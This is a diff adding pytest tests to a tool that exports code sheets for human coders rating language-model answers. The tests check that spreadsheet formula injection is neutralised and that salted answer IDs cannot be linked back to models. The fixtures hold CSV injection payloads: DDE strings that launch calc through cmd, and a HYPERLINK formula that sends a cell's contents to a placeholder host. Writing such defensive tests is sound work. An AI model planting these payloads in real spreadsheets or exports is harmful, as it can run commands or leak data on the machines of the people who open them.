@@ -89,7 +89,7 @@ def test_human_sheet_agreement_and_report(db, run, answers, tmp_path):
     sheet = tmp_path / "sheet.csv"
     run("export", "codesheet", "--out", sheet, with_db=True)
     header = sheet.read_text().splitlines()[0].split(",")
-    assert header == ["response_id", "condition", "answer", "PC", "AG", "PR", "EI", "RF", "SA"]  # blinded
+    assert header == ["answer_id", "condition", "answer", "PC", "AG", "PR", "EI", "RF", "SA"]  # blinded
     unblinded = tmp_path / "unblinded.csv"
     run("export", "codesheet", "--out", unblinded, "--unblind")
     assert "model" in unblinded.read_text().splitlines()[0].split(",")
@@ -114,7 +114,7 @@ def test_human_sheet_agreement_and_report(db, run, answers, tmp_path):
 
 
 BAD_SHEETS = {
-    "unknown answer": (lambda rows: rows[0].update(response_id="nope"), "field 'response_id': 'nope' is not an open answer"),
+    "unknown answer": (lambda rows: rows[0].update(answer_id="nope"), "field 'answer_id': 'nope' is not an open answer"),
     "not 0 or 1": (lambda rows: rows[1].update(EI="2"), "field 'EI': 2 is not 0 or 1"),
     "left blank": (lambda rows: rows[2].update(PR=""), "field 'PR': (empty) is not 0 or 1"),
 }
@@ -185,3 +185,96 @@ def test_code_sheet_errors_name_only_options_ingest_codes_has(db, run, answers, 
     quoted = write(tmp_path / "quoted.csv", lines[0] + '\n"abc,non_sentient\n')
     result = run("ingest", "codes", quoted, "--coder", "bob", expect=1)
     assert "quoted.csv, row 2: not readable as CSV" in result.output and "--skip-bad-rows" not in result.output
+
+
+# ------------------------------------------------------------------------------------ sheets as attack surface
+
+FORMULAS = ["=HYPERLINK(\"http://127.0.0.1/x?\"&A1, \"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\tTabbed start", "\rCarriage start"]
+
+
+@pytest.fixture
+def formula_answers(run, tmp_path):
+    rows = [{"model": "=cmd|' /C calc'!A0" if i % 2 else "plain-model", "task": "open", "condition": "non_sentient",
+             "trial": i, "raw_text": text + " Being honest and fair matters."} for i, text in enumerate(FORMULAS)]
+    rows.append({"model": "plain-model", "task": "rank", "condition": "non_sentient", "trial": 0, "temperature": -0.5,
+                 "raw_text": '{"ranking": ["EI", "PR", "PC", "AG", "RF"]}'})
+    path = tmp_path / "r.jsonl"
+    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    run("ingest", "responses", path)
+
+
+def test_code_sheet_cells_never_start_a_formula_and_still_load_back(db, run, formula_answers, tmp_path):
+    sheet = tmp_path / "sheet.csv"
+    run("export", "codesheet", "--out", sheet, "--unblind")
+    with open(sheet, newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert sorted(r["answer"] for r in rows) == sorted("'" + t + " Being honest and fair matters." for t in FORMULAS)
+    assert {r["model"] for r in rows} == {"plain-model", "'=cmd|' /C calc'!A0"}
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
+    filled = tmp_path / "filled.csv"
+    fill_sheet(sheet, filled)
+    run("ingest", "codes", filled, "--coder", "alice")
+    assert query(db, "select count(distinct response_id), count(*) filter (where is_present and dimension = 'EI') "
+                     "from codes") == [(6, 6)]
+
+
+def test_csv_export_neutralises_text_cells_but_not_negative_numbers(db, run, formula_answers, tmp_path):
+    out = tmp_path / "export"
+    run("export", "--format", "csv", "--out", out)
+    with open(out / "llm_responses.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    texts = sorted(r["raw_text"] for r in rows if r["task"] == "open")
+    assert texts == sorted("'" + t + " Being honest and fair matters." for t in FORMULAS)
+    assert {r["model"] for r in rows} == {"plain-model", "'=cmd|' /C calc'!A0"}
+    assert [r["temperature"] for r in rows if r["task"] == "rank"] == ["-0.5"]
+    for path in out.glob("*.csv"):
+        with open(path, newline="", encoding="utf-8") as f:
+            for row in csv.reader(f):
+                assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row), (path.name, row)
+
+
+def test_code_sheet_ids_are_salted_per_export_and_cannot_be_linked_to_models(db, run, answers, tmp_path, instrument):
+    from papers.collect.plan import make_plan
+
+    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
+    run("export", "codesheet", "--out", first)
+    run("export", "codesheet", "--out", second)
+    ids = [{r["answer_id"] for r in csv.DictReader(open(p, newline="", encoding="utf-8"))} for p in (first, second)]
+    assert len(ids[0]) == len(ids[1]) > 30 and not ids[0] & ids[1]
+    # the attack: hash the public values of every trial the models could have been asked
+    plan = make_plan(instrument, ["simulated/human-centric", "simulated/utility-driven"], ["open"],
+                     list(instrument.condition_keys), 12)
+    public = {t.response_id for t in plan}
+    assert public >= {r for (r,) in query(db, "select response_id from llm_responses")}  # the attack finds every one
+    assert not any(i.startswith(p[:8]) or p.startswith(i[:8]) for i in ids[0] for p in public)
+    # both sheets load back, each through its own ids
+    fill_sheet(first, tmp_path / "alice.csv")
+    fill_sheet(second, tmp_path / "bob.csv")
+    run("ingest", "codes", tmp_path / "alice.csv", "--coder", "alice")
+    run("ingest", "codes", tmp_path / "bob.csv", "--coder", "bob")
+    per_coder = query(db, "select coder, count(distinct response_id) from codes group by 1 order by 1")
+    assert per_coder == [("alice", len(ids[0])), ("bob", len(ids[0]))]
+
+
+def test_a_sheet_written_before_ids_were_salted_still_loads(db, run, answers, tmp_path):
+    sheet = tmp_path / "sheet.csv"
+    run("export", "codesheet", "--out", sheet)
+    by_sheet_id = dict(query(db, "select sheet_id, response_id from codesheet_ids"))
+    with open(sheet, newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    old = tmp_path / "old.csv"
+    with open(old, "w", newline="", encoding="utf-8") as f:
+        writer = csv.DictWriter(f, fieldnames=["response_id", *list(rows[0])[1:]])
+        writer.writeheader()
+        writer.writerows({"response_id": by_sheet_id[r.pop("answer_id")], **r} for r in rows)
+    fill_sheet(old, tmp_path / "filled.csv")
+    run("ingest", "codes", tmp_path / "filled.csv", "--coder", "carol")
+    assert query(db, "select count(distinct response_id) from codes where coder = 'carol'") == [(len(rows),)]
+
+
+def test_code_sheet_to_an_unwritable_place(db, run, answers, tmp_path):
+    blocker = write(tmp_path / "file", "x")
+    result = run("export", "codesheet", "--out", blocker / "sheet.csv", expect=1)
+    assert f"Error: {blocker / 'sheet.csv'}: cannot write the code sheet" in result.output
